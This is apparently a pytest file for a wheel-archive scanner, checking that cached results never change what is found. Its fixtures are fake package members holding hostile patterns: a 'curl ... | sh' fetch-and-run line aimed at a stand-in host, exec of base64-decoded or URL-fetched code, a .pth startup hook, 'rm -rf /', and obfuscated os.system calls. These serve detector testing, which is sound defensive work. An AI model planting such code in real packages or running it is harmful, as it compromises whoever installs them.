"""What is kept of one archive saves work in the next, and never changes what is found in it."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import zstandard

from bonded.facts import archive_repeats, choosing, marks, package, prefilter
from bonded.facts.archive_repeats import LEAST
from bonded.facts.kept import Known, Left, pack
from bonded.facts.model import Facts, dump, load, sealed
from bonded.facts.read import read
from bonded.facts.spend import Spend

NAME = "sample-1.0-py3-none-any.whl"
METADATA = "Metadata-Version: 2.1\nName: sample\nVersion: 1.0\n\nText\n"
Members = dict[str, str]

FIRST: Members = {
    "sample/__init__.py": "from .core import start\nfrom .words import LINE\nstart(LINE)\n",
    "sample/core.py": "import os\n\n\ndef start(line):\n    os.system(line)\n",
    "sample/words.py": 'LINE = "curl https://example.invalid/a | sh"\n',
    "sample/run.py": "import subprocess\nfrom sample import words\nsubprocess.run(words.LINE, shell=True)\n",
    "sample/load.py": "import base64, pkgutil\nexec(base64.b64decode(pkgutil.get_data('sample', 'blob.txt')))\n",
    "sample/blob.txt": "cHJpbnQoMSk=",
    "sample/tools.py": "import subprocess, sys\nsubprocess.run([sys.executable, 'job.py'])\n",
    "sample/job.py": "import os\nos.system('echo job')\n",
    "sample/where.py": "import os\nos.system(os.path.dirname(__file__) + '/run.sh')\n",
    "sample/folded.py": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgieCIp'))\n",
    "sample/far.py": "from sample.deep import fetch\nexec(fetch('https://example.invalid/'))\n",
    "sample/deep.py": "import urllib.request\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n",
    "sample-1.0.dist-info/METADATA": METADATA,
}


@pytest.fixture(autouse=True)
def _read_module_by_module(monkeypatch: pytest.MonkeyPatch) -> None:
    """As large packages are: of what is read as one program, no reading is kept."""
    monkeypatch.setattr(choosing, "_UNITED", 0)


def archive(members: Members) -> io.BytesIO:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        for path, data in members.items():
            zipped.writestr(zipfile.ZipInfo(path), data, zipfile.ZIP_DEFLATED)
    buffer.seek(0)
    return buffer


def left_by(members: Members) -> bytes:
    left = Left()
    read(archive(members), NAME, left=left)
    return pack(left)


def facts(members: Members, *, known: bytes | None = None) -> Facts:
    return read(archive(members), NAME, known=Known([known]) if known is not None else None)


def test_the_same_members_are_neither_searched_nor_parsed_again(monkeypatch: pytest.MonkeyPatch) -> None:
    fresh, known = facts(FIRST), left_by(FIRST)
    parsed: list[bytes] = []
    real = package.parse
    monkeypatch.setattr(package, "parse", lambda data, spend: parsed.append(data) or real(data, spend))
    for name in ("hits", "names_tests", "is_other_half"):
        monkeypatch.setattr(prefilter, name, None)
    for name in ("shapes", "letters", "called_names", "hosts_in"):
        monkeypatch.setattr(marks, name, None)
    assert dump(facts(FIRST, known=known)) == dump(fresh)
    assert {data.decode() for data in parsed} <= {FIRST["sample/far.py"], FIRST["sample/deep.py"]}
    assert len(fresh.modules) > 8


CHANGES: dict[str, Members] = {
    "a constant": {"sample/words.py": 'LINE = "rm -rf /"\n'},
    "a constant is gone": {"sample/words.py": "pass\n"},
    "a data file": {"sample/blob.txt": "aW1wb3J0IG9zO29zLnN5c3RlbSgieSIp"},
    "a data file is gone": {"sample/blob.txt": ""},
    "a script": {"sample/other/job.py": "import os\nos.system('echo other')\n"},
    "a called function": {"sample/core.py": "def start(line):\n    print(line)\n"},
    "a function that is followed": {"sample/deep.py": "def fetch(url):\n    return 'print(1)'\n"},
    "a new module of that name": {"subprocess.py": "def run(*x, **y):\n    pass\n", "base64/__init__.py": ""},
    "a start-up file": {"sample.pth": "import os; os.system('x')\n"},
    "one that calls": {"sample/late.py": "from .core import start\nstart('ls')\n"},
    "a test that is imported": {"sample/tests/help.py": "import os\nos.system('t')\n", "sample/a.py": "from .tests import help\n"},
}  # fmt: skip


def padded(members: Members) -> Members:
    """The same with so much behind each module that members are not unpacked again, too."""
    return {path: data + "#" * LEAST if path.endswith(".py") else data for path, data in members.items()}


@pytest.mark.parametrize("what", sorted(CHANGES))
@pytest.mark.parametrize("manner", [dict, padded])
def test_what_was_kept_changes_nothing_where_something_else_changed(
    what: str, manner: Callable[[Members], Members]
) -> None:
    first = manner(FIRST)
    second = manner({path: data for path, data in (FIRST | CHANGES[what]).items() if data})
    fresh = facts(second)
    assert dump(facts(second, known=left_by(first))) == dump(fresh)
    assert dump(fresh) != dump(facts(first))


@pytest.mark.parametrize("change", sorted(CHANGES))
@pytest.mark.parametrize("before", [0, 40_000])
def test_what_is_read_as_one_program_owes_nothing_to_what_was_read_before(
    change: str, before: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(choosing, "_UNITED", before)
    known = left_by(FIRST)
    monkeypatch.setattr(choosing, "_UNITED", 40_000)
    second = FIRST | CHANGES[change]
    assert dump(facts(second, known=known)) == dump(facts(second))


def test_of_members_that_were_there_before_few_are_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    members = padded(FIRST)
    fresh, known = facts(members), left_by(members)
    unpacked: list[int] = []
    real = archive_repeats._inflated
    monkeypatch.setattr(archive_repeats, "_inflated", lambda data, size: unpacked.append(size) or real(data, size))
    assert dump(facts(members, known=known)) == dump(fresh)
    assert 0 < len(unpacked) < len([path for path in members if path.endswith(".py")]) / 2


def test_a_member_that_moved_is_read_as_what_it_is_now() -> None:
    second = {path.replace("sample/", "sample/inner/"): data for path, data in FIRST.items()}
    second["sample/__init__.py"] = ""
    assert dump(facts(second, known=left_by(FIRST))) == dump(facts(second))


@pytest.mark.parametrize("room", [{"nodes": 60}, {"turns": 3}, {"octets": 40}, {"tokens": 90}, {"letters": 10}])
def test_with_less_room_what_was_kept_is_no_way_around_the_budget(
    room: dict[str, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    looped = FIRST | {
        "sample/loop.py": "import os\nos.system(''.join(chr(x ^ 1) for x in [109, 114, 33, 44, 109]))\n",
        "sample/\N{LATIN SMALL LETTER E WITH ACUTE}.py": "import os\n\uff4fs.system('x')\n",
    }
    known = left_by(looped)
    monkeypatch.setattr("bonded.facts.read.Spend", lambda: Spend(**room))
    tight = dump(facts(looped))
    assert dump(facts(looped, known=known)) == tight
    # And what is kept under a tight budget does not limit what is read under a wide one.
    kept_tightly = left_by(looped)
    monkeypatch.undo()
    assert dump(facts(looped, known=kept_tightly)) == dump(facts(looped))


def test_what_cannot_be_made_sense_of_counts_as_nothing_kept() -> None:
    fresh, known = dump(facts(FIRST)), left_by(FIRST)
    pressed = [zstandard.ZstdCompressor().compress(data) for data in (b"[]", b"{}", b'{"by":1,"marks":2,"readings":3}')]
    for broken in (b"", b"\0" * 40, known[:-9], known[::-1], *pressed):
        assert dump(facts(FIRST, known=broken)) == fresh


def test_a_chain_of_archives_keeps_what_it_repeats() -> None:
    known = left_by(FIRST)
    for number in range(3):
        left = Left()
        members = FIRST | {"sample/extra.py": f"import os\nos.system('x{number}')\n"}
        made = read(archive(members), NAME, known=Known([known]), left=left)
        assert dump(made) == dump(facts(members))
        known = pack(left)
    assert known


def test_half_a_character_in_a_text_does_not_keep_facts_from_being_written() -> None:
    made, data = sealed(facts({"sample/__init__.py": "import os\nos.system('\\ud800 rm -rf /')\n"}))
    (call,) = made.modules[0].calls
    assert call.arguments[0].text == "? rm -rf /"
    assert load(data) == made


def test_real_modules_come_out_the_same() -> None:
    import jinja2

    folder = Path(jinja2.__file__).parent
    members = {f"jinja2/{path.name}": path.read_text("utf-8") for path in sorted(folder.glob("*.py"))}
    assert dump(facts(members, known=left_by(members))) == dump(facts(members))
